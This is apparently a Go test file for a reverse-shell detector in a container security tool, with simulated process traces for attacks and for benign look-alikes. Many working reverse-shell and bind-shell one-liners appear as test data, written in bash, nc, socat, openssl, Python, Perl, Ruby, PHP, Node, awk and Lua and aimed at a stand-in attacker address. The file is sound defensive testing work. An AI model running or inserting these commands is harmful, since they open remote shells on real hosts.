package reverseshell_test

import (
	"net/netip"
	"testing"
	"time"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/detect"
	"github.com/bollwerk/bollwerk/detect/detecttest"
	"github.com/bollwerk/bollwerk/detect/reverseshell"
)

const (
	evil  = "203.0.113.7:4444"
	local = "10.1.2.3:51244"
)

func web() (*detecttest.Story, *bollwerk.Process) {
	s := detecttest.New(detecttest.Pod("shop", "cart", "app", "registry.example/cart:1.4"))
	shim := s.Was(nil, "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io", detecttest.From(bollwerk.OriginHost))
	s.UID = 33
	return s, s.Was(shim, "/usr/sbin/apache2 -DFOREGROUND")
}

func stories() map[string]*detecttest.Story {
	m := map[string]*detecttest.Story{}
	net := func(fds ...int) detecttest.Option { return detecttest.Net(local, evil, fds...) }

	s, a := web()
	sh := s.Exec(a, "/usr/bin/dash=sh -c 'bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"'")
	b := s.Exec(sh, "/usr/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'")
	c := s.Fork(b)
	s.Connect(c, evil)
	i := s.Become(c, "/usr/bin/bash -i", net(0, 1, 2))
	s.Exec(i, "/usr/bin/id", net(0, 1, 2))
	m["attack-bash-dev-tcp"] = s

	s, a = web()
	b = s.Exec(a, "/usr/bin/bash /var/www/html/up/x.sh")
	s.Connect(b, evil)
	s.Exec(b, "/usr/bin/cat", net(0))
	s.Wait(4 * time.Second)
	s.Exec(b, "/usr/bin/id", net(1, 2))
	s.Exec(b, "/usr/bin/ls -la /root", net(1, 2))
	m["attack-bash-while-read"] = s

	// rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f, typed into a shell.
	s, a = web()
	sh = s.Exec(a, "/usr/bin/dash=sh /tmp/.a")
	fifo, p1, p2 := s.Pipe(), s.Pipe(), s.Pipe()
	s.Exec(sh, "/usr/bin/mkfifo /tmp/f")
	s.Exec(sh, "/usr/bin/cat /tmp/f", detecttest.Out(p1))
	s.Exec(sh, "/usr/bin/dash=sh -i", detecttest.In(p1), detecttest.Out(p2), detecttest.Err(p2))
	nc := s.Exec(sh, "/usr/bin/nc.openbsd=nc 203.0.113.7 4444", detecttest.In(p2), detecttest.Out(fifo))
	s.Connect(nc, evil)
	m["attack-mkfifo-nc"] = s

	// The same, and the tool is there before the shell.
	s, a = web()
	sh = s.Exec(a, "/usr/bin/dash=sh /tmp/.a")
	p1, p2 = s.Pipe(), s.Pipe()
	nc = s.Exec(sh, "/opt/.x/relay 203.0.113.7 4444", detecttest.In(p2), detecttest.From(bollwerk.OriginCreated))
	s.Connect(nc, evil)
	s.Exec(sh, "/usr/bin/bash=bash", detecttest.In(p1), detecttest.Out(p2))
	m["attack-renamed-relay"] = s

	s, a = web()
	sh = s.Exec(a, "/usr/bin/dash=sh -c 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:4444 > /tmp/s; rm /tmp/s'")
	fifo, p1 = s.Pipe(), s.Pipe()
	s.Exec(sh, "/usr/bin/dash=/bin/sh -i", detecttest.In(fifo), detecttest.Out(p1), detecttest.Err(p1))
	o := s.Exec(sh, "/usr/bin/openssl s_client -quiet -connect 203.0.113.7:4444", detecttest.In(p1), detecttest.Out(fifo))
	s.Connect(o, evil)
	m["attack-openssl"] = s

	s, a = web()
	sh = s.Exec(a, "/usr/bin/dash=sh")
	p1, p2 = s.Pipe(), s.Pipe()
	s.Exec(sh, "/usr/bin/telnet.netkit=telnet 203.0.113.7 4444", detecttest.Out(p1))
	s.Exec(sh, "/usr/bin/bash", detecttest.In(p1), detecttest.Out(p2))
	t := s.Exec(sh, "/usr/bin/telnet 203.0.113.7 4445", detecttest.In(p2))
	s.Connect(t, "203.0.113.7:4445")
	m["attack-two-telnets"] = s

	// C='curl -Ns telnet://…'; $C </dev/null 2>&1 | sh 2>&1 | $C
	s, a = web()
	sh = s.Exec(a, "/usr/bin/dash=sh /tmp/.a")
	p1, p2 = s.Pipe(), s.Pipe()
	s.Exec(sh, "/usr/bin/curl -Ns telnet://203.0.113.7:4444", detecttest.Out(p1))
	s.Exec(sh, "/usr/bin/dash=sh", detecttest.In(p1), detecttest.Out(p2), detecttest.Err(p2))
	s.Connect(s.Exec(sh, "/usr/bin/curl -Ns telnet://203.0.113.7:4444", detecttest.In(p2)), evil)
	m["attack-curl-telnet"] = s

	code := func(name, line string, then func(s *detecttest.Story, p *bollwerk.Process)) {
		s, a := web()
		sh := s.Exec(a, "/usr/bin/dash=sh -c run")
		p := s.Exec(sh, line)
		then(s, p)
		m["attack-"+name] = s
	}
	becomes := func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Become(p, "/usr/bin/dash=/bin/sh -i", net(0, 1, 2))
	}
	spawns := func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Wait(time.Second)
		s.Exec(p, "/usr/bin/dash=/bin/sh", detecttest.Term)
	}
	code("python-dup2", `/usr/bin/python3.11=python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`,
		func(s *detecttest.Story, p *bollwerk.Process) {
			s.Connect(p, evil)
			s.Exec(p, "/usr/bin/dash=/bin/sh -i", net(0, 1, 2))
		})
	code("python-pty", `/usr/bin/python3.11=python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, spawns)
	code("python-file", "/usr/bin/python3.11=python3 /tmp/.update.py", spawns)
	code("python-encoded", `/usr/bin/python3.11=python3 -c 'exec(__import__("base64").b64decode("aW1wb3J0IHNvY2tldA=="))'`, spawns)
	// The second time the sensor does not tell of the connection: it told of this program and peer.
	code("python-again", "/usr/bin/python3.11=python3 /tmp/.update.py", func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Exit(p)
		s.Wait(2 * time.Minute)
		s.Exec(s.Exec(p.Parent, "/usr/bin/python3.11=python3 /tmp/.update.py"), "/usr/bin/dash=/bin/sh", detecttest.Term)
	})
	code("python-module", "/usr/bin/python3.11=python3 /app/plugins/tasks.py", spawns)
	code("perl", `/usr/bin/perl -e 'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`, becomes)
	code("ruby", `/usr/bin/ruby -rsocket -e 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("203.0.113.7",4444))'`, func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Exec(p, "/usr/bin/dash=sh", net(0, 1, 2))
	})
	code("php", `/usr/local/bin/php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		sh := s.Exec(p, "/usr/bin/dash=sh -c '/bin/sh -i <&3 >&3 2>&3'")
		s.Become(sh, "/usr/bin/dash=/bin/sh -i", net(0, 1, 2))
	})
	code("node", `/usr/local/bin/node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"203.0.113.7",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});return /a/;})();'`,
		func(s *detecttest.Story, p *bollwerk.Process) {
			s.Exec(p, "/usr/bin/dash=/bin/sh", detecttest.Unix(71, 0), detecttest.Unix(72, 1), detecttest.Unix(73, 2))
			s.Connect(p, evil)
		})
	code("node-file", "/usr/local/bin/node /dev/shm/s.js", func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Exec(p, "/usr/bin/dash=/bin/sh", detecttest.Unix(71, 0), detecttest.Unix(72, 1), detecttest.Unix(73, 2))
	})
	code("node-shell-first", "/usr/bin/node /tmp/s.js", func(s *detecttest.Story, p *bollwerk.Process) {
		s.Exec(p, "/usr/bin/dash=/bin/sh", detecttest.Unix(71, 0), detecttest.Unix(72, 1), detecttest.Unix(73, 2))
		s.Connect(p, evil)
	})
	code("awk", `/usr/bin/gawk=awk 'BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}'`, func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Exec(p, "/usr/bin/dash=sh -c id", detecttest.Out(s.Pipe()))
	})
	code("lua", `/usr/bin/lua5.4=lua -e 'local s=require("socket");local t=assert(s.tcp());t:connect("203.0.113.7",4444);while true do local r,x=t:receive();local f=assert(io.popen(r,"r"));t:send(assert(f:read("*a")));end;'`, func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Exec(p, "/usr/bin/dash=sh -c id", detecttest.Out(s.Pipe()))
	})
	code("nc-e", "/usr/bin/nc.traditional=nc -e /bin/sh 203.0.113.7 4444", becomes)
	code("ncat-exec", "/usr/bin/ncat --ssl 203.0.113.7 4444 --sh-exec /bin/bash", func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Exec(p, "/usr/bin/bash", detecttest.In(s.Pipe()), detecttest.Out(s.Pipe()))
	})
	code("busybox-nc", "/bin/busybox=busybox nc 203.0.113.7 4444 -e sh", becomes)
	code("socat-pty", `/usr/bin/socat TCP:203.0.113.7:4444 'EXEC:bash -li,pty,stderr,setsid,sigint,sane'`, func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Exec(p, "/usr/bin/bash -li", detecttest.Term)
	})
	code("socat-file", "/usr/bin/socat - OPENSSL:203.0.113.7:4444,verify=0", func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, evil)
		s.Exec(p, "/usr/bin/bash -li", detecttest.Term)
	})
	code("implant", "/tmp/.x/agentd", func(s *detecttest.Story, p *bollwerk.Process) {
		s.Connect(p, "203.0.113.7:443")
		s.Wait(40 * time.Minute)
		s.Exec(p, "/usr/bin/bash", detecttest.In(s.Pipe()), detecttest.Out(s.Pipe()))
	})
	code("bind-nc", "/usr/bin/ncat -lvp 4444 -e /bin/bash", func(s *detecttest.Story, p *bollwerk.Process) {
		s.Listen(p, "0.0.0.0:4444")
		s.Accept(p, "10.1.2.3:4444", "203.0.113.9:50123")
		s.Exec(p, "/usr/bin/bash", detecttest.Net("10.1.2.3:4444", "203.0.113.9:50123", 0, 1, 2))
	})
	code("bind-python", "/usr/bin/python3.11=python3 /srv/b.py", func(s *detecttest.Story, p *bollwerk.Process) {
		s.Listen(p, "0.0.0.0:31337")
		s.Accept(p, "10.1.2.3:31337", "203.0.113.9:50123")
		s.Exec(p, "/usr/bin/dash=/bin/sh", detecttest.Net("10.1.2.3:31337", "203.0.113.9:50123", 0, 1, 2))
	})

	// Normal work that looks alike.
	s = detecttest.New(detecttest.Host(""))
	one := s.Was(nil, "/usr/lib/systemd/systemd=/sbin/init")
	for _, n := range []int{1, 2, 3} {
		sh := s.Exec(one, "/usr/bin/bash /usr/local/bin/wait-for-it.sh db:5432", detecttest.Script("/usr/local/bin/wait-for-it.sh"))
		s.Connect(s.Fork(sh), "10.2.0.9:5432", 111)
		s.Connect(s.Fork(sh), "10.2.0.9:5432")
		// timeout 1 bash -c 'cat < /dev/null > /dev/tcp/10.2.0.9/5432'
		to := s.Exec(sh, "/usr/bin/timeout 1 bash -c 'cat < /dev/null > /dev/tcp/10.2.0.9/5432'")
		b := s.Become(to, "/usr/bin/bash -c 'cat < /dev/null > /dev/tcp/10.2.0.9/5432'")
		s.Connect(b, "10.2.0.9:5432")
		s.Exec(b, "/usr/bin/cat", detecttest.Net(local, "10.2.0.9:5432", 1))
		h := s.Exec(one, "/usr/bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/8080; echo -e \"GET /health HTTP/1.0\\n\\n\" >&3; grep UP <&3'")
		s.Connect(h, "127.0.0.1:8080")
		s.Exec(h, "/usr/bin/grep UP", detecttest.Net(local, "127.0.0.1:8080", 0))
		s.Wait(time.Duration(n) * time.Minute)
	}
	m["benign-health-checks"] = s

	s = detecttest.New(detecttest.Host(""))
	one = s.Was(nil, "/usr/lib/systemd/systemd=/sbin/init")
	x := s.Was(one, "/usr/sbin/xinetd -stayalive")
	s.Listen(x, "0.0.0.0:6556")
	s.Accept(x, "10.1.2.3:6556", "10.9.9.9:40022")
	s.Exec(x, "/usr/bin/bash /usr/bin/check_mk_agent", detecttest.Script("/usr/bin/check_mk_agent"), detecttest.Net("10.1.2.3:6556", "10.9.9.9:40022", 0, 1, 2))
	s.Exec(one, "/usr/bin/dash=sh -c 'cat /etc/motd'", detecttest.Net("10.1.2.3:79", "10.9.9.9:40023", 0, 1))
	s.Accept(x, "10.1.2.3:873", "10.9.9.9:40024")
	s.Exec(x, "/usr/bin/rsync --daemon", detecttest.Net("10.1.2.3:873", "10.9.9.9:40024", 0, 1, 2))
	// sshd: shells on a terminal, commands on pipes, git over ssh.
	sd := s.Was(one, "/usr/sbin/sshd -D")
	s.Accept(sd, "10.1.2.3:22", "10.9.9.9:40025")
	ss := s.Exec(sd, "/usr/sbin/sshd -D -R", detecttest.Net("10.1.2.3:22", "10.9.9.9:40025", 0, 1))
	s.Exec(ss, "/usr/bin/bash=-bash", detecttest.Term)
	g := s.Exec(ss, "/usr/bin/bash -c 'git-upload-pack /srv/git/app.git'", detecttest.In(s.Pipe()), detecttest.Out(s.Pipe()))
	s.Become(g, "/usr/bin/git-upload-pack /srv/git/app.git", detecttest.In(s.Pipe()), detecttest.Out(s.Pipe()))
	m["benign-inetd-sshd"] = s

	s = detecttest.New(detecttest.Host(""))
	s.LoginUID, s.UID, s.TTY = 1000, 1000, "pts/3"
	bash := s.Was(nil, "/usr/bin/bash=-bash")
	po := s.Exec(bash, "/usr/bin/python3.12=python3 /usr/local/bin/poetry shell", detecttest.Script("/usr/local/bin/poetry"))
	s.Connect(po, "index.wheels.example=151.101.0.223:443")
	s.Exec(po, "/usr/bin/bash -i", detecttest.Term)
	an := s.Exec(bash, "/usr/bin/python3.12=python3 /usr/bin/ansible-playbook site.yml", detecttest.Script("/usr/bin/ansible-playbook"))
	s.Connect(an, "10.0.0.12:22")
	s.Exec(an, "/usr/bin/dash=/bin/sh -c 'echo ~ && sleep 0'", detecttest.In(s.Pipe()), detecttest.Out(s.Pipe()))
	nd := s.Exec(bash, "/usr/bin/node /usr/lib/node_modules/npm/bin/npm-cli.js install")
	s.Connect(nd, "npm.packages.example=104.16.1.35:443")
	s.Exec(nd, "/usr/bin/dash=sh -c 'node-gyp rebuild'", detecttest.Unix(71, 0), detecttest.Unix(72, 1))
	code2 := s.Was(bash, "/home/ann/.vscode-server/bin/abc/node /home/ann/.vscode-server/bin/abc/out/server-main.js")
	s.Connect(code2, "update.code.example=13.107.5.93:443")
	s.Wait(5 * time.Minute)
	s.Exec(code2, "/usr/bin/bash", detecttest.Term)
	py := s.Exec(bash, "/usr/bin/python3.12=python3 -c 'import socket; socket.create_connection((\"10.2.0.9\",5432),2)'")
	s.Connect(py, "10.2.0.9:5432")
	s.Exec(bash, "/usr/bin/nc.openbsd=nc -zv 10.2.0.9 5432")
	so := s.Exec(bash, "/usr/bin/socat TCP-LISTEN:8080,fork,reuseaddr EXEC:/usr/local/bin/health.sh")
	s.Listen(so, "0.0.0.0:8080")
	s.Exec(so, "/usr/bin/bash /usr/local/bin/health.sh", detecttest.Script("/usr/local/bin/health.sh"), detecttest.Unix(81, 0, 1))
	m["benign-people-and-tools"] = s

	// Runners hand scripts to shells by pipes; database clients read statements from shells.
	s = detecttest.New(detecttest.Container("runner", "gitlab/gitlab-runner:v17"))
	r := s.Was(nil, "/usr/bin/gitlab-runner run")
	s.Connect(r, "gitlab.example=198.51.100.40:443")
	s.Exec(r, "/usr/bin/bash --login", detecttest.In(s.Pipe()), detecttest.Out(s.Pipe()))
	j := s.Was(nil, "/opt/java/openjdk/bin/java -jar /usr/share/jenkins/agent.jar -url https://ci.example/")
	s.Connect(j, "ci.example=198.51.100.41:443")
	s.Exec(j, "/usr/bin/dash=sh -xe /tmp/jenkins123.sh", detecttest.In(s.Pipe()), detecttest.Out(s.Pipe()))
	q1, q2 := s.Pipe(), s.Pipe()
	shell := s.Exec(j, "/usr/bin/bash -c 'gen.sh | sh | mysql -h db'")
	s.Exec(shell, "/usr/bin/dash=sh", detecttest.In(q1), detecttest.Out(q2))
	my := s.Exec(shell, "/usr/bin/mysql -h db", detecttest.In(q2))
	s.Connect(my, "10.2.0.4:3306")
	// A log is uploaded as it is made.
	q3, q4 := s.Pipe(), s.Pipe()
	s.Exec(shell, "/usr/bin/bash -s", detecttest.In(q3), detecttest.Out(s.Pipe()))
	s.Connect(s.Exec(shell, "/usr/bin/curl -sT - https://logs.example/x", detecttest.In(q4)), "198.51.100.42:443")
	tar := s.Exec(shell, "/usr/bin/tar c /data", detecttest.Out(q1))
	_ = tar
	s.Connect(s.Exec(shell, "/usr/bin/nc -q1 backup 9000", detecttest.In(q1)), "10.2.0.5:9000")
	m["benign-runners"] = s
	return m
}

func TestStories(t *testing.T) { detecttest.Files(t, stories()) }

func TestContract(t *testing.T) {
	critical := detecttest.Want{Severity: bollwerk.SeverityCritical, Mode: "enforce"}
	want := map[string]detecttest.Want{
		"attack-bash-while-read": {Severity: bollwerk.SeverityHigh, Message: evil},
		"attack-python-module":   {Severity: bollwerk.SeverityHigh, Mode: "warn"},
		"attack-implant":         {Severity: bollwerk.SeverityHigh},
		"attack-bind-python":     {Severity: bollwerk.SeverityCritical, Message: "connected to 10.1.2.3:31337"},
		"attack-python-dup2":     {Severity: bollwerk.SeverityCritical, Mode: "enforce"},
	}
	for _, n := range []string{"bash-dev-tcp", "mkfifo-nc", "renamed-relay", "openssl", "two-telnets", "python-pty", "python-file", "perl", "ruby", "php", "node", "node-file", "node-shell-first", "awk", "lua", "nc-e", "ncat-exec", "busybox-nc", "socat-pty", "socat-file", "python-encoded", "curl-telnet"} {
		want["attack-"+n] = critical
	}
	detecttest.Test(t, detecttest.Contract{New: func() detect.Detector { return reverseshell.New(reverseshell.Config{}) }, Want: want})
}

// A machine that is allowed to steer hosts by such shells is not told of.
func TestAllowed(t *testing.T) {
	d := reverseshell.New(reverseshell.Config{Allowed: []netip.Prefix{netip.MustParsePrefix("203.0.113.0/24")}})
	if found := detecttest.Run(t, d, detecttest.Read(t, "testdata/attack-bind-python.jsonl")); len(found) != 0 {
		t.Errorf("told of an allowed peer: %s", found[0].Message)
	}
	d = reverseshell.New(reverseshell.Config{Allowed: []netip.Prefix{netip.MustParsePrefix("198.51.100.0/24")}})
	if found := detecttest.Run(t, d, detecttest.Read(t, "testdata/attack-mkfifo-nc.jsonl")); len(found) == 0 {
		t.Error("another peer is not allowed")
	}
}

// What the kernel refused is told as refused.
func TestOutcome(t *testing.T) {
	events := detecttest.Read(t, "testdata/attack-bash-dev-tcp.jsonl")
	for _, e := range events {
		e.Outcome = bollwerk.Denied
	}
	for _, d := range detecttest.Run(t, reverseshell.New(reverseshell.Config{}), events) {
		if d.Outcome != bollwerk.Denied {
			t.Errorf("outcome %s of a denied event", d.Outcome)
		}
	}
}
